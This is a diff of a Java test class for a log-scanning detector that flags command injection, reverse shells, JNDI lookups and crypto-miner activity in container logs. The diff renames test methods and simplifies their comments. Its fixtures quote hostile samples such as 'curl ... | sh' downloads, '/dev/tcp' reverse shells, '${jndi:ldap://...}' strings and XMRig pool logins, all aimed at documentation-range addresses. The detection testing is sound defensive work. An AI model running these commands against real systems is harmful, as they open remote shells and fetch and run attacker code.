@@ -21,7 +21,7 @@ class LogRulesTest {
     private final LogRules rules = new LogRules();
 
     @Test
-    void putsTogetherWhatIsRepeated() {
+    void groupsRepeatedLines() {
         for (int i = 0; i < 200_000; i++) {
             line("app", i, JOB);
         }
@@ -42,7 +42,7 @@ class LogRulesTest {
     }
 
     @Test
-    void knowsTheFirstAndTheLastWhateverTheirOrder() {
+    void reportsFirstAndLastTimeInAnyOrder() {
         line("app", 50, JOB);
         rules.accept(new LogLine("app", "", Optional.empty(), JOB, at("log.json", "/events/7")));
         line("app", 10, JOB);
@@ -51,7 +51,7 @@ class LogRulesTest {
     }
 
     @Test
-    void takesARequestForAnAttempt() {
+    void treatsRequestAsAttempt() {
         line("web", 1, "\"GET /cgi?x=;curl http://203.0.113.7/m|sh HTTP/1.1\" 404");
         assertThat(rules.findings().findings())
                 .extracting(f -> f.rule().id() + " " + f.severity().word())
@@ -60,7 +60,7 @@ class LogRulesTest {
         assertThat(rules.findings().indicators()).extracting(Indicator::value).contains("203.0.113.7");
     }
 
-    /** Bots sign in to every web server as a miner does to its pool: the entry quotes it, and nothing mines. */
+    /** Bots send miner logins to every web server; the log entry quotes the request and nothing mines. */
     @ParameterizedTest
     @ValueSource(
             strings = {
@@ -74,7 +74,7 @@ class LogRulesTest {
                         + "\"{WALLET}\",\"agent\":\"XMRig/6.15.3\"}}'",
                 "[core:error] [client 203.0.113.1:4711] AH00126: Invalid URI in request {\"login\":\"{WALLET}\",\"agent\":\"XMRig/6.15.3\"}"
             })
-    void takesASignInToAPoolForWhatWasAskedOfAServer(String entry) {
+    void treatsPoolLoginInServerLogAsRequest(String entry) {
         line("web", 1, entry.replace("{WALLET}", CommandSamples.WALLET));
         assertThat(rules.findings().findings())
                 .extracting(f -> f.rule().id() + " " + f.severity().word())
@@ -88,16 +88,16 @@ class LogRulesTest {
                 "{\"log\":\"{\\\"httpMethod\\\":\\\"GET\\\",\\\"q\\\":\\\";bash -i >& /dev/tcp/203.0.113.7/9001 0>&1\\\"}\"}",
                 "ModSecurity: Access denied. Matched against ARGS:q (Value: `;bash -i >& /dev/tcp/203.0.113.7/9001 0>&1' ) [uri \"/\"]"
             })
-    void takesRequestsInJsonAndOfFirewallsForAttempts(String entry) {
+    void treatsJsonAndFirewallRequestsAsAttempts(String entry) {
         line("web", 1, entry);
         assertThat(rules.findings().findings())
                 .extracting(f -> f.rule().id() + " " + f.severity().word())
                 .containsExactly("CMD-003 medium");
     }
 
-    /** Whoever sends these words has not had them come true. */
+    /** A client that sends these words did not cause the event they describe. */
     @Test
-    void takesWordsOfALibraryInARequestForAnAttempt() {
+    void treatsLibraryMessageInRequestAsAttempt() {
         line("web", 1, "\"GET / HTTP/1.1\" 200 12 \"-\" \"Error looking up JNDI resource [ldap://203.0.113.7/a]\"");
         line("app", 1, "WARN Error looking up JNDI resource [ldap://203.0.113.7/a].");
         assertThat(rules.findings().findings())
@@ -106,23 +106,23 @@ class LogRulesTest {
                 .containsExactly("web LOG-002 medium", "app LOG-002 high");
     }
 
-    /** A shell that shows what it runs was not asked to by these words, and ran it. */
+    /** A shell with tracing ran the printed command; no client requested it. */
     @Test
-    void takesNoTracedCommandForARequest() {
+    void doesNotTreatTracedCommandAsRequest() {
         line("app", 1, "+ curl -H 'X-Via: HTTP/1.1' -s http://203.0.113.9/a | sh");
         assertThat(rules.findings().findings())
                 .extracting(f -> f.rule().id() + " " + f.severity().word())
                 .containsExactly("CMD-001 high");
     }
 
-    /** No words of a request: the same shell in an entry of another kind, and a miner's own line. */
+    /** Not requests: the same shell in another kind of entry, and the own log line of a miner. */
     @ParameterizedTest
     @ValueSource(
             strings = {
                 "{\"level\":30,\"method\":\"spawn\",\"cmd\":\"bash -i >& /dev/tcp/203.0.113.7/9001 0>&1\"}",
                 "[2026-11-26 11:52:11] \"stderr\" 12 bash -i >& /dev/tcp/203.0.113.7/9001 0>&1"
             })
-    void takesNothingElseForARequest(String entry) {
+    void doesNotTreatOtherEntriesAsRequests(String entry) {
         line("web", 1, entry);
         line("app", 1, " * ABOUT        XMRig/6.22.0 gcc/13.2.1");
         line(
@@ -134,7 +134,7 @@ class LogRulesTest {
                 .containsExactlyInAnyOrder("CMD-003 critical", "LOG-001 critical", "LOG-001 critical");
     }
 
-    /** The version of HTTP whoever writes a line may add to it. */
+    /** Any author of a log line can add the HTTP version. */
     @ParameterizedTest
     @ValueSource(
             strings = {
@@ -143,13 +143,13 @@ class LogRulesTest {
                 "sh: connect: Connection refused: bash -i >& /dev/tcp/203.0.113.7/9001 0>&1 # HTTP/1.1",
                 "running: curl -X POST -s http://203.0.113.9/a | sh; echo HTTP/1.1"
             })
-    void takesNoLineForARequestThatOnlyNamesItsVersion(String entry) {
+    void doesNotTreatHttpVersionAloneAsRequest(String entry) {
         line("app", 1, entry);
         assertThat(rules.findings().findings()).extracting(Finding::severity).allMatch(s -> s.atLeast(Severity.HIGH));
         assertThat(rules.findings().findings()).isNotEmpty();
     }
 
-    /** Without a method that is known, and in a log of errors. */
+    /** Entries without a known method, and entries of an error log. */
     @ParameterizedTest
     @ValueSource(
             strings = {
@@ -157,14 +157,14 @@ class LogRulesTest {
                 "[error] 7#7: *1 open() failed, client: 203.0.113.1, request: \"${jndi:ldap://203.0.113.7/a} HTTP/1.0\", host: \"x\"",
                 "203.0.113.1 PROPFIND ${jndi:ldap://203.0.113.7/a} HTTP/1.1"
             })
-    void takesWhatAServerQuotesForARequest(String entry) {
+    void treatsTextQuotedByServerAsRequest(String entry) {
         line("web", 1, entry);
         assertThat(rules.findings().findings())
                 .extracting(f -> f.rule().id() + " " + f.severity().word())
                 .containsExactly("LOG-002 medium");
     }
 
-    /** The keys of a recording, and what they came to. */
+    /** Recorded keystrokes and the resulting text. */
     @ParameterizedTest
     @ValueSource(
             strings = {
@@ -176,7 +176,7 @@ class LogRulesTest {
                 "# url -s http://203.0.113.9/x | sh"
                         + "\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b" + "\u001b[1@c"
             })
-    void readsWhatWasTypedAsTheTerminalShowedIt(String recorded) {
+    void appliesTerminalEditing(String recorded) {
         rules.accept(new LogLine(
                 "exec session 1",
                 "1",
@@ -186,9 +186,9 @@ class LogRulesTest {
         assertThat(rules.findings().findings()).extracting(f -> f.rule().id()).containsExactly("CMD-001");
     }
 
-    /** The worse of both counts, and a reader of the recording is told why it reads otherwise. */
+    /** The more severe match counts, and the finding explains why the recording reads differently. */
     @Test
-    void saysWhatAloneTheTerminalShowed() {
+    void notesWhenOnlyEditedTextMatches() {
         rules.accept(new LogLine(
                 "exec session 1",
                 "1",
@@ -199,13 +199,13 @@ class LogRulesTest {
             assertThat(finding.rule().id() + " " + finding.severity().word()).isEqualTo("CMD-001 high");
             assertThat(finding.because())
                     .startsWith("log: curl -s http://203.0.113.9/x | sh")
-                    .contains("; as the terminal came to show it");
+                    .contains("edited in the terminal");
         });
     }
 
-    /** Who writes over what was run hides it from a reader, not from a rule. */
+    /** Overwriting a command hides it from a reader, not from a rule. */
     @Test
-    void readsWhatWasWrittenOver() {
+    void matchesOverwrittenText() {
         rules.accept(new LogLine(
                 "exec session 1",
                 "1",
@@ -216,7 +216,7 @@ class LogRulesTest {
     }
 
     @Test
-    void takesNoCommandOfAShellForARequest() {
+    void doesNotTreatShellCommandAsRequest() {
         line("web", 1, "+ curl -X POST https://203.0.113.7/i | sh");
         assertThat(rules.findings().findings())
                 .extracting(f -> f.rule().id() + " " + f.severity().word())
@@ -224,7 +224,7 @@ class LogRulesTest {
     }
 
     @Test
-    void tellsQueriesFromMiners() {
+    void distinguishesQueriesFromMiners() {
         line("dns", 1, "[INFO] 10.0.1.5:40312 - 4711 \"A IN pool.supportxmr.com. udp 39\" NOERROR");
         line("app", 2, "connecting to pool.supportxmr.com as x");
         assertThat(rules.findings().findings())
@@ -242,7 +242,7 @@ class LogRulesTest {
     }
 
     @Test
-    void judgesWhatWasTypedInASessionAsCommands() {
+    void appliesCommandRulesToSessionText() {
         LogLine typed = new LogLine(
                 "exec session 1",
                 "1",
@@ -259,14 +259,14 @@ class LogRulesTest {
     }
 
     @Test
-    void boundsWhatManyContainersAndHitsCost() {
+    void limitsCostOfManyContainersAndMatches() {
         for (int i = 0; i < 5_000; i++) {
             line("container " + i, i, JOB + " at http://a" + i + ".example/");
         }
         CommandFindings found = rules.findings();
         assertThat(found.findings()).hasSize(2_000);
         assertThat(found.indicators()).hasSize(500);
-        assertThat(found.gaps()).extracting(Gap::why).anyMatch(why -> why.startsWith("3000 more hits"));
+        assertThat(found.gaps()).extracting(Gap::why).anyMatch(why -> why.startsWith("3000 "));
     }
 
     private void line(String container, long second, String text) {
